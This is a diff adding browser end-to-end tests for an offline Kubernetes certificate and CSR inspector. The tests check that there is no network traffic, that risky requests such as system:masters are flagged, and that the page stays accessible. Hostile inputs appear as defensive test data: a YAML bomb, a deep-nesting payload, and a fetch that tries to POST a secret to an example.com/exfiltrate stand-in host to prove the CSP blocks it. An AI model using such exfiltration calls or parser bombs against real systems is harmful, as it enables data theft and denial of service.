@@ -1,0 +1,259 @@
+// Browser tests: the release build (dist/) in Debian's headless Chromium via playwright-core.
+// Run by scripts/test.sh after `trunk build --release --offline`:  node --test tests/e2e/
+// Screenshots of the main states go to test-results/screenshots/ (look at them).
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import http from 'node:http';
+import fs from 'node:fs';
+import path from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { chromium } from 'playwright-core';
+
+const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
+const dist = path.join(root, 'dist');
+const fixtures = path.join(root, 'tests/fixtures');
+const shots = path.join(root, 'test-results/screenshots');
+fs.mkdirSync(shots, { recursive: true });
+
+const TYPES = { '.html': 'text/html', '.js': 'text/javascript', '.wasm': 'application/wasm', '.css': 'text/css' };
+const served = [];
+let server, base, browser;
+
+before(async () => {
+  assert.ok(fs.existsSync(path.join(dist, 'index.html')), 'dist/ is missing: run trunk build --release --offline first');
+  server = http.createServer((req, res) => {
+    served.push(req.url);
+    const rel = decodeURIComponent(new URL(req.url, 'http://x').pathname).replace(/^\/+/, '') || 'index.html';
+    const file = path.join(dist, rel);
+    if (!file.startsWith(dist) || !fs.existsSync(file) || fs.statSync(file).isDirectory()) {
+      res.writeHead(404).end('not found');
+      return;
+    }
+    res.writeHead(200, { 'content-type': TYPES[path.extname(file)] || 'application/octet-stream' });
+    fs.createReadStream(file).pipe(res);
+  });
+  await new Promise((r) => server.listen(0, '127.0.0.1', r));
+  base = `http://127.0.0.1:${server.address().port}/`;
+  browser = await chromium.launch({
+    executablePath: process.env.CHROMIUM || '/usr/bin/chromium',
+    args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run', '--disable-quic'],
+  });
+});
+
+after(async () => {
+  await browser?.close();
+  server?.close();
+});
+
+/** Opens the app; records every request, console error and page error. */
+async function open(opts = {}, hash = '') {
+  const context = await browser.newContext({ acceptDownloads: true, ...opts });
+  const page = await context.newPage();
+  const requests = [];
+  const errors = [];
+  page.on('request', (r) => requests.push(r.url()));
+  page.on('console', (m) => { if (m.type() === 'error' || m.type() === 'warning') errors.push(`${m.type()}: ${m.text()}`); });
+  page.on('pageerror', (e) => errors.push(`pageerror: ${e.message}`));
+  await page.goto(base + hash);
+  await page.getByLabel(/Paste PEM, base64/).waitFor();
+  return { context, page, requests, errors };
+}
+
+const fixture = (name) => fs.readFileSync(path.join(fixtures, name), 'utf8');
+
+async function paste(page, text) {
+  await page.getByLabel(/Paste PEM, base64/).fill(text);
+}
+
+async function chooseExample(page, id) {
+  await page.selectOption('#example-select', id);
+}
+
+/** Waits until the report shows every expected string (one or a list); returns its text. */
+async function reportText(page, expected) {
+  const wanted = Array.isArray(expected) ? expected : [expected];
+  try {
+    await page.waitForFunction((ws) => {
+      const t = document.querySelector('.report')?.innerText || '';
+      return ws.every((w) => t.includes(w));
+    }, wanted, { timeout: 10_000 });
+  } catch {
+    const t = (await page.locator('.report').count()) ? await page.locator('.report').innerText() : '(no report)';
+    assert.fail(`expected ${JSON.stringify(wanted.filter((w) => !t.includes(w)))} in the report; it shows:\n${t.slice(0, 1500)}`);
+  }
+  return page.locator('.report').innerText();
+}
+
+test('loads with no request beyond its own files and no console errors', async () => {
+  const { context, page, requests, errors } = await open();
+  await page.waitForTimeout(300);
+  const own = requests.filter((u) => u.startsWith(base));
+  assert.deepEqual(requests.filter((u) => !u.startsWith(base)), [], 'requests to other origins');
+  const names = own.map((u) => u.slice(base.length).split('?')[0]).sort();
+  assert.deepEqual(names, ['', 'boot.js', 'kube-cert-inspector.js', 'kube-cert-inspector_bg.wasm', 'style.css'].sort());
+  assert.match(await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content'), /default-src 'none'.*connect-src 'self'/);
+  assert.deepEqual(errors, []);
+  await page.screenshot({ path: path.join(shots, 'empty.png'), fullPage: true });
+  await context.close();
+});
+
+test('every example renders what a reviewer needs, without a single network request', async () => {
+  const { context, page, requests, errors } = await open();
+  await page.waitForTimeout(200);
+  const before = requests.length;
+  const expectations = {
+    'csr-system-masters': ['Do not approve', 'mallory', 'system:masters', 'identity-system-masters', 'csr-subject-restriction', 'added by the API server'],
+    'csr-developer': ['Routine', 'alice', 'developers', 'system:authenticated', '1 day (requested)'],
+    'csr-kubelet-client': ['Routine', 'system:node:worker-1', 'Node worker-1', 'AutoApproved', 'Issued by'],
+    'csr-kubelet-serving-no-sans': ['Do not approve', 'DNS or IP subjectAltName is required', 'csr-kubelet-serving-shape'],
+    'csr-node-by-alice': ['Review carefully', 'csr-node-requester-mismatch', 'submitted by alice'],
+    'csr-list': ['Overall', 'mallory-admin', 'node-csr-by-alice', 'alice'],
+    'csr-lookalike': ['identity-lookalike-characters', 'U+0430'],
+    'admin-conf': ['kubernetes-admin@kubernetes', 'kubernetes-admin in kubeadm:cluster-admins', 'identity-kubeadm-cluster-admins', 'Root certificate authority'],
+    'kubeconfig-risky': ['kubeconfig-insecure-skip-tls-verify', 'token-legacy-service-account', 'aws eks get-token', 'hidden'],
+    'expired-controller-manager': ['expired', 'validity-expired', 'system:kube-controller-manager'],
+    chain: ['Issued by', '#1', 'kube-apiserver'],
+  };
+  for (const [id, wanted] of Object.entries(expectations)) {
+    await chooseExample(page, id);
+    await reportText(page, wanted);
+    if (['csr-system-masters', 'admin-conf', 'kubeconfig-risky', 'csr-kubelet-client', 'chain'].includes(id)) {
+      await page.screenshot({ path: path.join(shots, `example-${id}.png`), fullPage: true });
+    }
+  }
+  // Secrets in the examples are never displayed.
+  const page_text = await page.locator('body').innerText();
+  assert.ok(!page_text.includes('hunter2'));
+  assert.deepEqual(requests.slice(before).filter((u) => !u.startsWith('blob:') && !u.startsWith('data:')), [], 'network requests after load');
+  assert.deepEqual(errors, []);
+  await context.close();
+});
+
+test('pasting a CSR object shows the verdict first, then identity and findings', async () => {
+  const { context, page, errors } = await open();
+  await paste(page, fixture('csr-object-system-masters.yaml'));
+  await reportText(page, 'Do not approve');
+  const first = page.locator('.object').first();
+  const order = await first.evaluate((el) => [...el.querySelectorAll('.verdict, .identity, .findings')].map((e) => e.className.split(' ')[0]));
+  assert.deepEqual(order, ['verdict', 'identity', 'findings']);
+  const username = await first.locator('code.username').innerText();
+  assert.equal(username, 'mallory');
+  const groups = await first.locator('code.group').allInnerTexts();
+  assert.deepEqual(groups, ['system:masters', 'system:authenticated']);
+  const badges = await first.locator('.finding .badge').allInnerTexts();
+  assert.equal(badges[0].toLowerCase(), 'critical');
+  assert.deepEqual(errors, []);
+  await context.close();
+});
+
+test('a dropped DER file and a picked file are both read', async () => {
+  const { context, page, errors } = await open();
+  const der = fs.readFileSync(path.join(fixtures, 'cert-developer.der'));
+  await page.evaluate(async (bytes) => {
+    const file = new File([new Uint8Array(bytes)], 'cert.der', { type: 'application/octet-stream' });
+    const dt = new DataTransfer();
+    dt.items.add(file);
+    const target = document.querySelector('#input-text');
+    target.dispatchEvent(new DragEvent('dragover', { dataTransfer: dt, bubbles: true, cancelable: true }));
+    target.dispatchEvent(new DragEvent('drop', { dataTransfer: dt, bubbles: true, cancelable: true }));
+  }, [...der]);
+  let text = await reportText(page, 'Binary DER');
+  assert.ok(text.includes('alice'));
+  assert.ok(await page.getByText('cert.der (').isVisible());
+  await page.setInputFiles('#file-input', path.join(fixtures, 'admin.conf'));
+  text = await reportText(page, 'kubernetes-admin@kubernetes');
+  assert.ok(text.includes('kubeadm:cluster-admins'));
+  assert.deepEqual(errors, []);
+  await context.close();
+});
+
+test('the report downloads as JSON with the documented fields', async () => {
+  const { context, page } = await open();
+  await chooseExample(page, 'csr-developer');
+  await reportText(page, 'Routine');
+  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download report JSON' }).click()]);
+  assert.equal(download.suggestedFilename(), 'k8s-cert-report.json');
+  const json = JSON.parse(fs.readFileSync(await download.path(), 'utf8'));
+  assert.equal(json.schema_version, 1);
+  assert.equal(json.verdict.level, 'routine');
+  const o = json.objects[0];
+  assert.equal(o.username, 'alice');
+  assert.deepEqual(o.groups, ['developers', 'system:authenticated']);
+  assert.ok(Array.isArray(o.findings) && 'not_before' in o && 'not_after' in o);
+  await context.close();
+});
+
+test('works with the keyboard alone', async () => {
+  const { context, page } = await open();
+  await page.keyboard.press('Tab');
+  assert.equal(await page.evaluate(() => document.activeElement.id), 'example-select');
+  await page.keyboard.press('ArrowDown');
+  await reportText(page, 'Do not approve');
+  // Tab through to the first finding's "why" disclosure and open it with the keyboard.
+  let opened = false;
+  for (let i = 0; i < 40 && !opened; i++) {
+    await page.keyboard.press('Tab');
+    const tag = await page.evaluate(() => document.activeElement.tagName + ':' + (document.activeElement.textContent || '').slice(0, 40));
+    if (tag.startsWith('SUMMARY:Why it matters')) {
+      await page.keyboard.press('Enter');
+      opened = await page.evaluate(() => document.activeElement.parentElement.open);
+    }
+  }
+  assert.ok(opened, 'a finding explanation can be reached and opened by keyboard');
+  // The focus ring is visible.
+  const outline = await page.evaluate(() => getComputedStyle(document.activeElement).outlineStyle);
+  assert.notEqual(outline, 'none');
+  await context.close();
+});
+
+test('broken and hostile input gives a clear message, never a blank page', async () => {
+  const { context, page, errors } = await open();
+  await paste(page, 'hello, is this thing on?');
+  let text = await reportText(page, 'Could not read the input');
+  assert.ok(text.includes('Expected a PEM block'));
+  await page.screenshot({ path: path.join(shots, 'error.png'), fullPage: true });
+  await paste(page, fixture('truncated.pem'));
+  text = await reportText(page, 'truncated');
+  await paste(page, fixture('not-kubernetes-csr.yaml'));
+  text = await reportText(page, 'a Kubernetes Deployment');
+  // A YAML bomb and deep nesting are refused, the page stays alive.
+  const bomb = 'a: &a [x,x,x,x,x,x,x,x,x]\n' + 'bcdefgh'.split('').map((k, i) => `${k}: &${k} [${Array(9).fill('*' + 'abcdefgh'[i]).join(',')}]`).join('\n') + '\n';
+  await paste(page, bomb);
+  text = await reportText(page, 'expected YAML');
+  await paste(page, '['.repeat(50_000));
+  text = await reportText(page, 'expected JSON');
+  await paste(page, fixture('csr-developer.pem'));
+  await reportText(page, 'Routine');
+  assert.deepEqual(errors, []);
+  await context.close();
+});
+
+test('a 360 px phone and the dark scheme both render', async () => {
+  const { context, page } = await open({ viewport: { width: 360, height: 780 }, colorScheme: 'dark' }, '#example=admin-conf');
+  await reportText(page, 'kubernetes-admin@kubernetes');
+  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
+  assert.ok(overflow <= 1, `page scrolls sideways by ${overflow}px at 360 px`);
+  const bg = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);
+  assert.equal(bg, 'rgb(13, 17, 23)');
+  await page.screenshot({ path: path.join(shots, 'phone-dark-admin-conf.png'), fullPage: true });
+  await context.close();
+});
+
+test('the Content-Security-Policy blocks any outbound connection the page might attempt', async () => {
+  const { context, page } = await open();
+  const outcome = await page.evaluate(async () => {
+    const violations = [];
+    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
+    let fetched = 'sent';
+    try {
+      await fetch('https://example.com/exfiltrate', { method: 'POST', body: 'secret' });
+    } catch {
+      fetched = 'blocked';
+    }
+    await new Promise((r) => setTimeout(r, 50));
+    return { fetched, violations };
+  });
+  assert.equal(outcome.fetched, 'blocked');
+  assert.ok(outcome.violations.includes('connect-src'), JSON.stringify(outcome));
+  await context.close();
+});
